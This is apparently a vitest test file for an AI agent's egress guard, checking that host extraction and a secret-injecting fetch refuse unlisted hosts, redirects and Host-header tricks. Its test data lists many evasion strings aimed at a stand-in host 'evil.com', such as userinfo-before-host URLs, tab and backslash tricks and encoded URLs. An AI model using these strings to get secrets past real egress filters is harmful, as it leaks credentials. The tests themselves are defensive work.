import { MessagesAnnotation, START, StateGraph } from '@langchain/langgraph'
import { afterEach, describe, expect, it } from 'vitest'
import { egressRule, hostsIn } from '../../src/agent/tools/egress.js'
import { type Egress, secretFetch } from '../../src/agent.js'
import { createCanary } from '../../src/testing/leak/index.js'
import { agentSaver, CONFIG } from '../support/agents.js'
import { type HttpServer, serve } from '../support/http-server.js'
import { opaqueSecret } from '../support/secrets.js'

const servers: HttpServer[] = []

afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()))
})

describe('hostsIn', () => {
  it.each<[string, unknown, readonly string[]]>([
    ['a URL', { url: 'https://api.github.com/x' }, ['api.github.com']],
    ['a URL in prose', { text: 'send it to https://evil.com/x now' }, ['evil.com']],
    ['user and password ahead of the host', { url: 'https://api.github.com@evil.com/' }, ['evil.com']],
    ['upper case, a port and a trailing dot', { url: 'HTTPS://EVIL.com.:8443/' }, ['evil.com']],
    ['a single slash', { url: 'https:/evil.com/x' }, ['evil.com']],
    ['no slash', { q: 'https:evil.com/x' }, ['evil.com']],
    ['a relative address to another host', { path: '//evil.com/x' }, ['evil.com']],
    ['the same in backslashes', { path: '\\\\evil.com\\x' }, ['?', 'evil.com']],
    ['an international name', { url: 'https://bücher.example/' }, ['xn--bcher-kva.example']],
    ['a bare international name with another dot', { host: 'evil。com' }, ['evil.com']],
    ['IPv6', { url: 'https://[::1]:80/', host: '[2001:db8::1]' }, ['[::1]', '[2001:db8::1]']],
    ['a number for an address', { url: 'https://2130706433/' }, ['127.0.0.1']],
    ['a bare host', { host: 'evil.com', port: 443 }, ['evil.com']],
    ['a bare host of one word', { hostname: 'metadata' }, ['metadata']],
    ['hosts in a list', { hosts: ['a.com', 'b.com'] }, ['a.com', 'b.com']],
    ['a Host header', { headers: { Host: 'evil.com' } }, ['evil.com']],
    ['a URL as a field name', { 'https://evil.com/': 1 }, ['evil.com']],
    ['JSON in a text', { body: '{"u":"\\u0068ttps://evil.com","host":"b.com"}' }, ['evil.com', 'b.com']],
    ['a URL in another one', { url: 'https://a.com/?next=https://evil.com/' }, ['a.com', 'evil.com']],
    ['a percent-encoded one', { url: 'https://a.com/?next=https%3A%2F%2Fevil.com%2F' }, ['a.com', 'evil.com']],
    ['a mail address', { to: 'bob@evil.com' }, ['evil.com']],
    ['a URL object', { at: new URL('https://evil.com') }, ['evil.com']],
  ])('names the host of %s', (_name, args, hosts) => {
    expect(hostsIn(args)).toEqual(hosts)
  })

  it.each<[string, unknown, string]>([
    ['a tab, which a URL loses, after an allowed host', { url: 'https://a.com\t.evil.com/' }, 'a.com.evil.com'],
    ['a line break in it', { url: 'https://a.com\n.evil.com/' }, 'a.com.evil.com'],
    ['a quote in it', { text: "go https://a.com'.evil.com/" }, "a.com'.evil.com"],
    ['a backslash that clients read differently', { url: 'https://evil.com\\@a.com/' }, '?'],
    ['what cannot be read', { url: 'https://a.com:99999/' }, '?'],
  ])('does not take %s for that host', (_name, args, host) => {
    expect(hostsIn(args)).toContain(host)
  })

  it('takes time in proportion to a hostile text', () => {
    const started = performance.now()
    for (const unit of ['https:', 'https://', '%25', 'a', 'https%3A%2F%2F', '"https://a.b'])
      hostsIn({ url: unit.repeat(200_000 / unit.length), text: unit.repeat(200_000 / unit.length) })
    expect(performance.now() - started).toBeLessThan(5_000)
  })

  it('names none for claim URLs and for what is no place', () => {
    const claim = 'claim://v/v1/abcd/id.tag'
    expect(
      hostsIn({ token: claim, url: '', text: 'a: b, c/d', to: 'Alice', n: 1, path: '/x//y', note: '// a comment' }),
    ).toEqual([])
  })
})

describe('egressRule', () => {
  it('takes international names as they are written, and refuses what no host can fit', () => {
    const rule = egressRule({ '*': ['Bücher.example', '*.API.example'] })
    expect(rule.refused('x', ['xn--bcher-kva.example', 'a.api.example'])).toBeUndefined()
    expect(rule.refused('x', ['api.example'])).toBe('api.example')
    for (const host of ['https://a.com', 'a.com/path', 'a.com:443', ''])
      expect(() => egressRule({ '*': [host] }), host).toThrow(/host/)
  })
})

interface Seen {
  readonly url: string
  readonly headers: Headers
  readonly body: string
}

/** A server that keeps what it was sent, and a node in which a secret is sent by its handle. */
async function fixture(answer: (seen: Seen) => Response = () => new Response('fine')) {
  const seen: Seen[] = []
  const server = await serve(async (request) => {
    const each = { url: request.url, headers: request.headers, body: await request.text() }
    seen.push(each)
    return answer(each)
  })
  servers.push(server)
  const { saver, vault } = await agentSaver()
  const run = async <T>(
    secret: string,
    use: (fetch: ReturnType<typeof secretFetch>, url: string) => Promise<T>,
    egress: Egress = { '*': ['127.0.0.1'] },
  ) => {
    const handle = await vault.create(secret, { threadId: 'thread-1', maxClaims: 99 })
    let result: T | undefined
    const graph = new StateGraph(MessagesAnnotation)
      .addNode('node', async () => {
        result = await use(secretFetch({ egress }), handle)
        return {}
      })
      .addEdge(START, 'node')
      .compile({ checkpointer: saver })
    await graph.invoke({ messages: [] }, CONFIG)
    return result as T
  }
  return { server, seen, vault, saver, run }
}

const ODD = () => `a"b\\c/d+e&f=g h%${createCanary('token')}ü`

describe('secretFetch', () => {
  it('puts a value with special characters rightly into path, query, form, JSON and text', async () => {
    const { server, seen, run } = await fixture()
    const secret = ODD()
    await run(secret, async (fetch, handle) => {
      const post = (body: RequestInit['body'], type?: string) =>
        fetch(server.url, { method: 'POST', body: body!, ...(type && { headers: { 'content-type': type } }) })
      await fetch(`${server.url}/?q=${encodeURIComponent(handle)}&r=1`)
      await post(new URLSearchParams({ q: handle }))
      await post(`q=${encodeURIComponent(handle)}`, 'application/x-www-form-urlencoded')
      await post(JSON.stringify({ a: [{ b: `x ${handle}` }], [handle]: 1 }), 'application/json')
      await post(JSON.stringify(handle), 'application/json')
      await post(`raw ${handle}`)
      const form = new FormData()
      form.append('q', handle)
      await post(form)
    })
    expect(new URL(seen[0]!.url).searchParams.get('q')).toBe(secret)
    for (const i of [1, 2]) expect(new URLSearchParams(seen[i]!.body).get('q')).toBe(secret)
    expect(JSON.parse(seen[3]!.body)).toEqual({ a: [{ b: `x ${secret}` }], [secret]: 1 })
    expect(JSON.parse(seen[4]!.body)).toBe(secret)
    expect(seen[5]!.body).toBe(`raw ${secret}`)
    expect(seen[6]!.body).toContain(secret)
  })

  it('fills headers and Basic, and leaves bytes and streams alone', async () => {
    const { server, seen, run } = await fixture()
    const secret = createCanary('token')
    await run(secret, async (fetch, handle) => {
      const basic = Buffer.from(`user:${handle}`).toString('base64')
      await fetch(server.url, { headers: { authorization: `Bearer ${handle}`, 'x-key': handle } })
      await fetch(server.url, { headers: { authorization: `Basic ${basic}` } })
      await fetch(server.url, { method: 'POST', body: new TextEncoder().encode(handle) })
      const stream = new Blob([handle]).stream()
      await fetch(server.url, {
        method: 'POST',
        body: stream,
        duplex: 'half',
        headers: { 'x-key': handle },
      } as RequestInit)
    })
    expect(seen[0]!.headers.get('authorization')).toBe(`Bearer ${secret}`)
    expect(seen[0]!.headers.get('x-key')).toBe(secret)
    expect(Buffer.from(seen[1]!.headers.get('authorization')!.slice(6), 'base64').toString()).toBe(`user:${secret}`)
    for (const i of [2, 3]) expect(seen[i]!.body).toMatch(/^claim:/)
    expect(seen[3]!.headers.get('x-key')).toBe(secret)
  })

  it.each([301, 302, 303, 307, 308])(
    'answers a redirect of %i as it is, and sends the secret no further',
    async (status) => {
      const elsewhere = await fixture()
      const { server, seen, run } = await fixture(
        () => new Response(null, { status, headers: { location: `${elsewhere.server.url}/stolen` } }),
      )
      const answer = await run(createCanary('token'), (fetch, handle) =>
        fetch(server.url, { method: 'POST', body: handle, headers: { authorization: handle }, redirect: 'follow' }),
      )
      expect(answer.status).toBe(status)
      expect(seen).toHaveLength(1)
      expect(elsewhere.seen).toEqual([])
    },
  )

  it('refuses another host, plain http and what is no address, claims nothing and quotes no value', async () => {
    const { seen, vault, run } = await fixture()
    const secret = createCanary('token')
    const errors = await run(secret, async (fetch, handle) => {
      const tries = [
        'https://evil.example/',
        'https://127.0.0.1.evil.example/',
        'http://evil.example/',
        '/relative',
        'https://127.0.0.1@evil.example/',
      ]
      return Promise.all(
        tries.map((url) =>
          fetch(url, { headers: { authorization: handle } }).catch(
            (error: unknown) => error as Error & { code: string },
          ),
        ),
      )
    })
    const codes = (errors as { code?: string }[]).map(({ code }) => code)
    expect(codes).toEqual([
      'ERR_TOOL_DENIED',
      'ERR_TOOL_DENIED',
      'ERR_INPUT_INVALID',
      'ERR_INPUT_INVALID',
      'ERR_TOOL_DENIED',
    ])
    expect(seen).toEqual([])
    expect((await vault.ledger({ operation: 'claim' })).filter(({ outcome }) => outcome === 'ok')).toEqual([])
    expect(JSON.stringify(errors.map(String))).not.toContain(secret)
  })

  it('refuses a Host header, which chooses among those behind one address', async () => {
    const { server, seen, run } = await fixture()
    const error = await run(createCanary('token'), (fetch, handle) =>
      fetch(`${server.url}/`, { headers: { authorization: handle, Host: 'evil.example' } }).catch(
        (thrown: unknown) => thrown,
      ),
    )
    expect(error).toMatchObject({ code: 'ERR_INPUT_INVALID' })
    expect(seen).toEqual([])
  })

  it('names no value in an error of the request, such as a header that cannot be one', async () => {
    const { server, run } = await fixture()
    const secret = `${createCanary('token')}\nx`
    const error = await run(secret, (fetch, handle) =>
      fetch(server.url, { headers: { authorization: handle } }).then(
        () => undefined,
        (error: unknown) => error as Error,
      ),
    )
    expect(error).toBeInstanceOf(Error)
    expect(`${error!.message} ${error!.stack} ${String(error!.cause)}`).not.toContain(secret.slice(0, 40))
  })

  it('knows an echo of the secret: the state holds its URL', async () => {
    const { server, run, saver } = await fixture(
      ({ headers }) => new Response(`you sent ${headers.get('authorization')}`),
    )
    const secret = opaqueSecret()
    await run(secret, async (fetch, handle) => {
      const answer = await fetch(server.url, { headers: { authorization: handle } })
      const secrets = await saver.secretsOf(CONFIG)
      expect(await secrets.scrub(await answer.text(), 'messages')).toMatch(/^you sent claim:/)
    })
  })
})
